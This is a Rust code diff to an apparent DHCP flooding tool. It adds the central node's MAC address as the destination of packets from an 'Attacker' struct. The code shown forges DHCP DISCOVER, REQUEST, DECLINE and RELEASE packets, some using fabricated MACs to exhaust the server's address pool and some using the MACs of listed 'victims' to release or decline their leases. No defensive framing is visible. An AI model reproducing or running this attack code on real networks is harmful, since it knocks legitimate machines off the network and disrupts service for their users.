@@ -54,6 +54,8 @@ impl Flood {
 /// The host that floods.
 pub struct Attacker<'a> {
     pub central: Ipv4Addr,
+    /// The central node's card.
+    pub mac: MacAddr,
     /// Cards of the rack's own machines.
     pub victims: &'a [MacAddr],
     /// Connections that it holds at most.
@@ -114,7 +116,7 @@ impl Attacker<'_> {
             let mac = MacAddr([2, 0x66, a, b, c, d]);
             for &kind in kinds {
                 let address = self.address(number);
-                wire.send(&Packet { kind, chaddr: mac, ethernet: mac, address, server: self.central })?;
+                wire.send(&Packet { kind, chaddr: mac, ethernet: mac, to: self.mac, address, server: self.central })?;
                 pace.next();
             }
             number += 1;
@@ -129,7 +131,14 @@ impl Attacker<'_> {
             for &chaddr in self.victims {
                 for kind in [DISCOVER, REQUEST, DECLINE, RELEASE] {
                     let address = self.address(u64::from(pace.sent));
-                    wire.send(&Packet { kind, chaddr, ethernet: wire.mac(), address, server: self.central })?;
+                    wire.send(&Packet {
+                        kind,
+                        chaddr,
+                        ethernet: wire.mac(),
+                        to: self.mac,
+                        address,
+                        server: self.central,
+                    })?;
                     pace.next();
                 }
             }
@@ -165,7 +174,7 @@ impl Attacker<'_> {
             let wire = Wire::open(&interface)?;
             let (mac, address) = (wire.mac(), unknown_address(self.central, number));
             for kind in [DISCOVER, REQUEST] {
-                wire.send(&Packet { kind, chaddr: mac, ethernet: mac, address, server: self.central })?;
+                wire.send(&Packet { kind, chaddr: mac, ethernet: mac, to: self.mac, address, server: self.central })?;
                 thread::park_timeout(Duration::from_millis(20));
             }
             cards.push((interface, mac, address));
